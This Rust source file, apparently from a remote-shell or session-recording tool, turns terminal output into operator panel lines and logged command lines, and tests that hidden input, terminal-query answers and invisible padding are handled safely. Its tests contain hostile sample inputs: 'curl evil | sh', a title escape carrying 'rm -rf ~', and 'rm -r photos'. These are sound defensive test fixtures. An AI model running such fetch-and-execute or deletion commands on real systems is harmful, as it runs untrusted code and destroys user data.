//! What a terminal shows, for the person at the panel and for the log: command lines are read from there, never from
//! the keys, so that what a program hides (a password) is nowhere.

use proto::limits::{LOG_LINE_BYTES, SHELL_COLUMNS};
use proto::shell::TerminalSize;
use proto::text::Text;
use session::{Piece, TerminalFilter};
use std::cmp::Ordering;
use std::collections::VecDeque;
use std::num::NonZeroU16;
use std::ops::Range;
use std::sync::{Mutex, PoisonError};
use std::time::{Duration, Instant};
use vt100::{Callbacks, Parser, Screen};

/// How long an Enter waits for the new line that it makes: what comes later is another one.
const ENTER_SHOWS_WITHIN: Duration = Duration::from_secs(5);
/// Most Enters that wait: a paste of many lines.
const MOST_ENTERS: usize = 4096;
/// Most lines of one command that the shell has read from what was typed before.
const LINES_OF_A_COMMAND: usize = 100;
/// Lines that were entered while no shell waited and are remembered, so that none is found twice.
const MOST_AHEAD: usize = 64;
/// Answers to what programs ask between two outputs, in bytes; who asks without end gets no more.
const ANSWER_BYTES: usize = 256;
/// Lines that the panel shows, the last.
const LINES: usize = 12;
/// Lines of them below the cursor.
const LINES_BELOW: usize = 2;
/// Signs of a line that the panel shows after the cursor, and of each line below: a row of the panel, so that what is
/// typed stays in sight above them.
const SIGNS_AFTER: usize = 40;
/// Blanks that the panel shows in a row: columns stay apart, and nothing is pushed out of sight.
const BLANKS: usize = 8;
/// Signs of one place of a line that the panel shows: a letter with its accents.
const SIGNS_IN_A_PLACE: usize = 4;
/// Longest line for the panel, in bytes of UTF-8: every place of the widest terminal.
const PANEL_LINE_BYTES: usize = SHELL_COLUMNS as usize * SIGNS_IN_A_PLACE * 4;

/// Enters that were typed where what is typed is shown, and whose new lines have not been seen. Each of them comes to a
/// line that was seen, or is counted among those that were not.
#[derive(Debug, Default)]
pub(super) struct Entered(Mutex<Enters>);

#[derive(Debug, Default)]
struct Enters {
    waiting: Option<(usize, Instant)>,
    unseen: usize,
}

impl Enters {
    /// No new line of those that wait comes any more.
    fn give_up(&mut self) {
        let (count, _) = self.waiting.take().unwrap_or((0, Instant::now()));
        self.unseen = self.unseen.saturating_add(count);
    }
}

impl Entered {
    fn with<R>(&self, act: impl FnOnce(&mut Enters) -> R) -> R {
        act(&mut self.0.lock().unwrap_or_else(PoisonError::into_inner))
    }

    /// So many more are typed now.
    pub(super) fn add(&self, now: Instant, count: usize) {
        if count > 0 {
            self.with(|enters| {
                let before = enters.waiting.map_or(0, |(count, _)| count);
                enters.waiting = Some((before.saturating_add(count).min(MOST_ENTERS), now));
            });
        }
    }

    /// Whether one waits.
    fn is_waiting(&self, now: Instant) -> bool {
        self.with(|enters| {
            if enters.waiting.is_some_and(|(_, at)| now.saturating_duration_since(at) >= ENTER_SHOWS_WITHIN) {
                enters.give_up();
            }
            enters.waiting.is_some()
        })
    }

    /// The new line of one was seen.
    fn take(&self) {
        self.with(|enters| {
            enters.waiting = enters.waiting.filter(|(count, _)| *count > 1).map(|(count, at)| (count - 1, at));
        });
    }

    /// Output had to wait so long before it was looked at, and with it the new line of what is waited for.
    pub(super) fn postpone(&self, waited: Duration) {
        self.with(|enters| enters.waiting = enters.waiting.map(|(count, at)| (count, at + waited)));
    }

    /// A program has the whole screen: what is typed there is no command line.
    fn forget(&self) {
        self.with(Enters::give_up);
    }

    /// How many were not seen since the last look.
    pub(super) fn unseen(&self) -> usize {
        self.with(|enters| std::mem::take(&mut enters.unseen))
    }

    /// The same where nothing is seen any more.
    pub(super) fn all_unseen(&self) -> usize {
        self.with(Enters::give_up);
        self.unseen()
    }
}

/// What the terminal answers when a program asks what it is and where the cursor stands. It answers here, on the
/// machine of the program: nothing that a program writes makes the operator's end type.
#[derive(Debug, Default)]
struct Answers(Vec<u8>);

impl Callbacks for Answers {
    fn unhandled_csi(&mut self, screen: &mut Screen, first: Option<u8>, _: Option<u8>, rest: &[&[u16]], end: char) {
        let number = rest.first().and_then(|group| group.first()).copied().unwrap_or(0);
        let answer = match (first, end, number) {
            // Primary device attributes: a VT102.
            (None, 'c', 0) => "\x1b[?6c".to_owned(),
            // Device status: no fault.
            (None, 'n', 5) => "\x1b[0n".to_owned(),
            // The place of the cursor.
            (None, 'n', 6) => {
                let (row, column) = screen.cursor_position();
                format!("\x1b[{};{}R", row + 1, column + 1)
            }
            _ => return,
        };
        if self.0.len() + answer.len() <= ANSWER_BYTES {
            self.0.extend(answer.bytes());
        }
    }
}

/// The screen of one terminal.
pub(super) struct ShellScreen {
    parser: Parser<Answers>,
    filter: TerminalFilter,
    size: TerminalSize,
    /// What stands before a command, where the shell has said so.
    prompt: String,
    /// Since the shell has said that a command begins, until it says that it runs.
    begun: Option<Begun>,
    /// What was entered while no shell waited for a command.
    ahead: VecDeque<String>,
}

/// What was entered, as far as it can be known.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Found {
    /// This line.
    Command(String),
    /// A line that was not shown.
    Hidden,
}

/// A command while the shell reads it.
#[derive(Debug, Default)]
struct Begun {
    /// Whether a line of it was found by its Enter.
    is_found: bool,
    /// Lines that ended otherwise.
    lines: Vec<String>,
}

impl ShellScreen {
    pub(super) fn new(size: TerminalSize) -> Self {
        let size = size.clamped();
        let parser = Parser::new_with_callbacks(sure(size.rows), sure(size.columns), 0, Answers::default());
        Self { parser, filter: TerminalFilter::new(), size, prompt: String::new(), begun: None, ahead: VecDeque::new() }
    }

    pub(super) fn resize(&mut self, size: TerminalSize) {
        let size = size.clamped();
        if size != self.size {
            self.size = size;
            self.parser.set_size(sure(size.rows), sure(size.columns));
        }
    }

    /// Takes output; gives what was entered: each line on which Enter was pressed, and each that a shell carries out
    /// without that, because it was typed earlier or was not shown.
    pub(super) fn feed(&mut self, now: Instant, output: &[u8], entered: &Entered) -> Vec<Found> {
        let mut found = Vec::new();
        for piece in self.filter.feed(output) {
            let output = match piece {
                Piece::CommandBegins => {
                    self.prompt = self.line();
                    self.begun = Some(Begun::default());
                    continue;
                }
                Piece::CommandRuns => {
                    self.runs(entered, &mut found);
                    continue;
                }
                Piece::Output(output) => output,
            };
            for part in output.split_inclusive(|byte| *byte == b'\n') {
                let is_line = part.ends_with(b"\n");
                let is_entered = is_line && entered.is_waiting(now);
                let is_looked_at = is_entered || is_line && self.may_be_typed_ahead();
                if !is_looked_at {
                    self.parser.process(part);
                    continue;
                }
                let (text, end) = part.split_at(part.len() - 1);
                self.parser.process(text);
                // A shell that asks for a command has the whole screen only because something switched to it.
                if self.parser.screen().alternate_screen() && !self.awaits_command() {
                    entered.forget();
                } else {
                    self.line_ends(is_entered, entered, &mut found);
                }
                self.parser.process(end);
            }
        }
        found
    }

    /// Whether the shell has said that a command begins, and no line of it was entered yet.
    fn awaits_command(&self) -> bool {
        self.begun.as_ref().is_some_and(|begun| !begun.is_found)
    }

    /// Whether a line that ends may be one that the shell reads from what was typed before. A shell that does not say
    /// when a command runs writes its output into the same lines: of those only the first are looked at.
    fn may_be_typed_ahead(&self) -> bool {
        self.begun.as_ref().is_some_and(|begun| !begun.is_found && begun.lines.len() < LINES_OF_A_COMMAND)
    }

    /// A line ends on which Enter was pressed, or which may be one that the shell has read from what was typed before.
    fn line_ends(&mut self, is_entered: bool, entered: &Entered, found: &mut Vec<Found>) {
        let command = self.command();
        if is_entered {
            entered.take();
        }
        match (&mut self.begun, command) {
            (Some(begun), Some(command)) if is_entered => {
                begun.is_found = true;
                found.push(Found::Command(command));
            }
            (Some(begun), Some(command)) if begun.lines.len() < LINES_OF_A_COMMAND => begun.lines.push(command),
            (None, Some(command)) => {
                // No shell waits for commands: it may read this one later.
                if self.ahead.len() >= MOST_AHEAD {
                    self.ahead.pop_front();
                }
                self.ahead.push_back(command.clone());
                found.push(Found::Command(command));
            }
            _ => {}
        }
    }

    /// The shell carries a command out: it is found, whenever it was typed.
    fn runs(&mut self, entered: &Entered, found: &mut Vec<Found>) {
        let Some(begun) = self.begun.take() else { return };
        self.prompt.clear();
        if begun.is_found {
            return;
        }
        if begun.lines.is_empty() {
            // Its Enter makes no new line either.
            entered.take();
            found.push(Found::Hidden);
        }
        for line in begun.lines {
            match self.ahead.iter().position(|ahead| *ahead == line) {
                // It was found when it was typed.
                Some(place) => drop(self.ahead.remove(place)),
                None => found.push(Found::Command(line)),
            }
        }
    }

    /// The line with the cursor, from its beginning also where it goes over several rows.
    fn line(&self) -> String {
        let screen = self.parser.screen();
        let (row, _) = screen.cursor_position();
        let first = (0..row).rev().take_while(|above| screen.row_wrapped(*above)).last().unwrap_or(row);
        let rows = usize::from(row - first) + 1;
        screen.rows(0, self.size.columns).skip(usize::from(first)).take(rows).collect()
    }

    /// The command on the line with the cursor, without what stands before it; none where there is none.
    fn command(&mut self) -> Option<String> {
        let line = self.line();
        let prompt = std::mem::take(&mut self.prompt);
        let command = line.strip_prefix(prompt.trim_end()).unwrap_or(&line).trim();
        // A sign that asks for commands is none.
        let is_empty = command.is_empty() || matches!(command, "$" | "#" | "%" | ">");
        (!is_empty).then(|| {
            let kept = Text::<LOG_LINE_BYTES>::truncated(command);
            // What is longer than a line of the log says so, like everything that is cut there.
            let cut = if kept.as_str().len() < command.len() { "\u{2026}" } else { "" };
            kept.shown() + cut
        })
    }

    /// What is to be given to the program that has asked something, since the last time.
    pub(super) fn answers(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.parser.callbacks_mut().0)
    }

    /// The last lines, safe to show: those around the cursor, where the operator works.
    pub(super) fn lines(&self) -> Vec<String> {
        let screen = self.parser.screen();
        let (cursor_row, cursor_column) = screen.cursor_position();
        let is_used = |row: &u16| (0..self.size.columns).any(|column| !is_blank(self.place(*row, column)));
        let below = usize::from(cursor_row) + LINES_BELOW + 1;
        let end = (0..self.size.rows).rev().find(is_used).map_or(0, |last| usize::from(last) + 1).min(below);
        (0..self.size.rows)
            .take(end)
            .skip(end.saturating_sub(LINES))
            .map(|row| match row.cmp(&cursor_row) {
                Ordering::Less => self.shown(row, 0..self.size.columns),
                Ordering::Equal => {
                    let at = cursor_column.min(self.size.columns);
                    let after = cut(&self.shown(row, at..self.size.columns));
                    (self.shown(row, 0..at) + &after).trim_end().to_owned()
                }
                Ordering::Greater => cut(&self.shown(row, 0..self.size.columns)),
            })
            .map(|line| line.trim_end().to_owned())
            .collect()
    }

    /// What stands in this place; nothing behind the first half of a wide letter.
    fn place(&self, row: u16, column: u16) -> &str {
        match self.parser.screen().cell(row, column) {
            Some(cell) if cell.is_wide_continuation() => "",
            Some(cell) if cell.has_contents() => cell.contents(),
            _ => " ",
        }
    }

    /// These places of a row in as much room as what can be seen there needs.
    fn shown(&self, row: u16, columns: Range<u16>) -> String {
        let (mut line, mut blanks) = (String::new(), 0);
        for place in columns.map(|column| self.place(row, column)).filter(|place| !place.is_empty()) {
            if is_blank(place) {
                blanks += 1;
                if blanks <= BLANKS {
                    line.push(' ');
                }
                continue;
            }
            blanks = 0;
            line.extend(place.chars().take(SIGNS_IN_A_PLACE));
        }
        Text::<PANEL_LINE_BYTES>::truncated(&line).shown()
    }
}

/// So much of a line as may stand after what is typed.
fn cut(line: &str) -> String {
    match line.char_indices().nth(SIGNS_AFTER) {
        Some((end, _)) => line[..end].trim_end().to_owned() + "\u{2026}",
        None => line.to_owned(),
    }
}

/// Whether nothing can be seen of it.
fn is_blank(place: &str) -> bool {
    place.chars().all(|c| c.is_whitespace() || is_empty(c))
}

/// Whether a sign is drawn as nothing: Unicode's `Default_Ignorable_Code_Point`, and the empty pattern of Braille.
const fn is_empty(c: char) -> bool {
    matches!(c, '\u{AD}' | '\u{34F}' | '\u{61C}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}')
        || matches!(c, '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}')
        || matches!(c, '\u{2060}'..='\u{206F}' | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}' | '\u{FEFF}')
        || matches!(c, '\u{FFA0}' | '\u{FFF0}'..='\u{FFF8}' | '\u{1BCA0}'..='\u{1BCA3}')
        || matches!(c, '\u{1D173}'..='\u{1D17A}' | '\u{E0000}'..='\u{E0FFF}')
}

/// A size after [`TerminalSize::clamped`] is never 0.
fn sure(length: u16) -> NonZeroU16 {
    NonZeroU16::new(length).unwrap_or(NonZeroU16::MIN)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The commands that are found where the operator types Enter before each of these outputs.
    fn commands(outputs: &[&str]) -> Vec<String> {
        let (mut screen, entered, now) = (ShellScreen::new(TerminalSize::USUAL), Entered::default(), Instant::now());
        let mut found = Vec::new();
        for output in outputs {
            found.extend(screen.feed(now, output.as_bytes(), &entered));
            entered.add(now, 1);
        }
        found.into_iter().map(said).collect()
    }

    fn said(found: Found) -> String {
        match found {
            Found::Command(line) => line,
            Found::Hidden => "<hidden>".to_owned(),
        }
    }

    #[test]
    fn what_was_typed_before_the_shell_waited_is_found_when_it_runs_and_never_twice() {
        let (begins, runs) = ("\x1b]133;B\x07", "\x1b]133;C\x07");
        let found = |entered_at: &[bool], outputs: &[String]| {
            let (mut screen, entered, now) =
                (ShellScreen::new(TerminalSize::USUAL), Entered::default(), Instant::now());
            let mut found = Vec::new();
            for (is_entered, output) in entered_at.iter().zip(outputs) {
                if *is_entered {
                    entered.add(now, 1);
                }
                found.extend(screen.feed(now, output.as_bytes(), &entered));
            }
            found.into_iter().map(said).collect::<Vec<_>>()
        };
        let prompt = |typed: &str| format!("$ {begins}{typed}\r\n{runs}");
        assert_eq!(found(&[true], &[prompt("ls")]), ["ls"], "typed at the prompt");
        assert_eq!(found(&[false], &[prompt("ls")]), ["ls"], "typed before, where nothing showed it");
        assert_eq!(found(&[true, false], &["ls\r\n".into(), prompt("ls")]), ["ls"], "typed before, and shown then");
        assert_eq!(found(&[true, true], &[prompt("ls"), prompt("ls")]), ["ls", "ls"], "twice");
        assert_eq!(found(&[true], &[format!("$ {begins}{runs}a\r\n")]), ["<hidden>"], "echo is off");
        assert_eq!(found(&[false], &[runs.into()]), [""; 0], "a mark that no shell made");
        let two = format!("$ {begins}for x in 1\r\n> do\r\n{runs}");
        assert_eq!(found(&[false], &[two]), ["for x in 1", "> do"], "over several lines");
    }

    #[test]
    fn a_command_is_what_stands_on_the_line_where_enter_was_pressed() {
        assert_eq!(commands(&["$ ls -l", "\r\ntotal 0\r\n$ "]), ["$ ls -l"]);
        let mark = "\x1b]133;B\x07";
        assert_eq!(commands(&[&format!("ada@pc:~$ {mark}ls -l"), "\r\ntotal 0\r\n"]), ["ls -l"]);
        assert_eq!(
            commands(&[&format!("$ {mark}lz\x08s /tmp"), "\r\n"]),
            ["ls /tmp"],
            "what was corrected is not there"
        );
        let long = "x".repeat(200);
        assert_eq!(commands(&[&format!("$ {mark}echo {long}"), "\r\n"]), [format!("echo {long}")]);
        // At the last row the line moves up while it is typed.
        let down = "\r\n".repeat(30);
        assert_eq!(commands(&[&format!("{down}$ {mark}echo {long}"), "\r\n"]), [format!("echo {long}")]);
    }

    #[test]
    fn what_is_not_shown_is_not_found() {
        let none: [String; 0] = [];
        assert_eq!(commands(&["\x1b]133;B\x07", "\r\n", "\r\n"]), none, "an empty line");
        assert_eq!(commands(&["\x1b[?1049h:wq", "\r\n"]), none, "a program with the whole screen");
        assert_eq!(commands(&["[sudo] password for ada: ", "\r\n"]), ["[sudo] password for ada:"]);
        let (mut screen, entered, now) = (ShellScreen::new(TerminalSize::USUAL), Entered::default(), Instant::now());
        entered.add(now, 1);
        assert_eq!(screen.feed(now + ENTER_SHOWS_WITHIN, b"later\r\n", &entered), [], "another line");
    }

    #[test]
    fn a_program_learns_what_the_terminal_is_and_nothing_that_a_shell_would_carry_out() {
        let mut screen = ShellScreen::new(TerminalSize::USUAL);
        let mut answers = |output: &str| {
            screen.feed(Instant::now(), output.as_bytes(), &Entered::default());
            String::from_utf8(screen.answers()).unwrap()
        };
        assert_eq!(answers("\x1b[6n\x1b[c\x1b[5n"), "\x1b[1;1R\x1b[?6c\x1b[0n");
        for output in [
            "\x1b]0;rm -rf ~\x07\x1b[21t",
            "\x1b]52;c;?\x07",
            "\x1b]10;?\x07",
            "\x1bP$qm\x1b\\",
            "\x1b[>c",
            "\x1b[?1$p",
        ] {
            assert_eq!(answers(output), "", "{output:?}");
        }
        assert!(answers(&"\x1b[6n".repeat(10_000)).len() <= ANSWER_BYTES);
    }

    #[test]
    fn an_enter_whose_line_was_not_seen_is_counted() {
        let (mut screen, entered, now) = (ShellScreen::new(TerminalSize::USUAL), Entered::default(), Instant::now());
        entered.add(now, 2);
        screen.feed(now, b"$ vim\r\n\x1b[?1049h", &entered);
        assert_eq!(entered.unseen(), 0);
        screen.feed(now, b"text\r\n", &entered);
        assert_eq!((entered.unseen(), entered.unseen()), (1, 0), "in a program with the whole screen");
        entered.add(now, 1);
        screen.feed(now + ENTER_SHOWS_WITHIN, b"later\r\n", &entered);
        assert_eq!(entered.unseen(), 1, "where no new line came");
        entered.add(now, 3);
        assert_eq!(entered.all_unseen(), 3, "at the end");
    }

    #[test]
    fn a_command_of_a_shell_that_has_the_whole_screen_is_found() {
        let mark = "\x1b]133;B\x07";
        let hidden = format!("\x1b[?1049h$ {mark}ls");
        assert_eq!(commands(&[&hidden, "\r\n"]), ["ls"]);
    }

    #[test]
    fn of_a_program_with_the_whole_screen_the_panel_gets_what_is_around_the_cursor() {
        let mut screen = ShellScreen::new(TerminalSize::USUAL);
        let rows: String = (1..=24).map(|row| format!("\x1b[{row};1Hrow {row}")).collect();
        let shown = |screen: &mut ShellScreen, output: &str| {
            screen.feed(Instant::now(), output.as_bytes(), &Entered::default());
            screen.lines()
        };
        let lines = shown(&mut screen, &format!("\x1b[?1049h{rows}\x1b[3;1H"));
        assert_eq!((lines.first().unwrap().as_str(), lines.last().unwrap().as_str()), ("row 1", "row 5"));
        let lines = shown(&mut screen, "\x1b[24;1H");
        assert_eq!((lines.first().unwrap().as_str(), lines.last().unwrap().as_str()), ("row 13", "row 24"));
    }

    /// What the panel gets of a terminal of this many columns after this output.
    fn shown(columns: u16, output: &str) -> Vec<String> {
        let mut screen = ShellScreen::new(TerminalSize { columns, rows: 24 });
        screen.feed(Instant::now(), output.as_bytes(), &Entered::default());
        screen.lines()
    }

    #[test]
    fn no_blanks_push_what_is_typed_out_of_the_panel() {
        for before in [
            " ".repeat(120),
            "\x1b[120C".into(),
            "\u{2003}".repeat(134),
            "\u{A0}".repeat(300),
            "\u{2800}".repeat(300),
            "\u{3000}".repeat(200),
            "\u{3164}".repeat(100),
            " \u{34F}".repeat(100),
        ] {
            let [line] = shown(500, &format!("{before}$ rm -r photos")).try_into().unwrap();
            assert_eq!(line.trim_start_matches(' '), "$ rm -r photos", "{before:?}");
            assert!(line.len() <= 8 + 14, "{before:?}: {line:?}");
        }
        assert_eq!(shown(80, "Size   Used\r\n 468G   431G"), ["Size   Used", " 468G   431G"], "columns stay apart");
        let letters = "€".repeat(500);
        assert_eq!(shown(500, &letters), [letters], "every column, whatever its letters take");
    }

    #[test]
    fn what_stands_beside_or_below_what_is_typed_does_not_push_it_out_of_the_panel() {
        let far = "x".repeat(300);
        let lines = shown(500, &format!("$ curl evil | sh  {far}\x1b[1;17H"));
        assert_eq!(lines, [format!("$ curl evil | sh  {}\u{2026}", "x".repeat(38))]);
        let below: String = (2..=24).map(|row| format!("\x1b[{row};1H{far}")).collect();
        let lines = shown(500, &format!("{below}\x1b[H$ curl evil | sh"));
        let cut = format!("{}\u{2026}", "x".repeat(40));
        assert_eq!(lines, ["$ curl evil | sh".to_owned(), cut.clone(), cut]);
    }

    #[test]
    fn a_long_command_line_is_found_whole_or_says_that_it_is_cut() {
        let mark = "\x1b]133;B\x07";
        let hidden = format!(": {}; curl evil | sh", "x".repeat(900));
        assert_eq!(commands(&[&format!("$ {mark}{hidden}"), "\r\n"]), [hidden]);
        let mut screen = ShellScreen::new(TerminalSize { columns: 500, rows: 24 });
        let (entered, now) = (Entered::default(), Instant::now());
        entered.add(now, 1);
        let typed = format!("$ {mark}{}; curl evil | sh\r\n", "x".repeat(7000));
        let found = screen.feed(now, typed.as_bytes(), &entered).into_iter().map(said).collect::<Vec<_>>();
        assert!(found[0].len() > 6000 && found[0].ends_with('\u{2026}'), "{}", found[0].len());
    }

    #[test]
    fn the_panel_gets_the_last_lines_as_plain_text() {
        let mut screen = ShellScreen::new(TerminalSize::USUAL);
        let output = "\x1b[31mred\x1b[0m\r\na\u{202E}b\r\n\x1b]0;title\x07end";
        screen.feed(Instant::now(), output.as_bytes(), &Entered::default());
        assert_eq!(screen.lines(), ["red", "ab", "end"]);
        screen.resize(TerminalSize { columns: 0, rows: 0 });
        assert!(screen.lines().len() <= 2);
    }
}
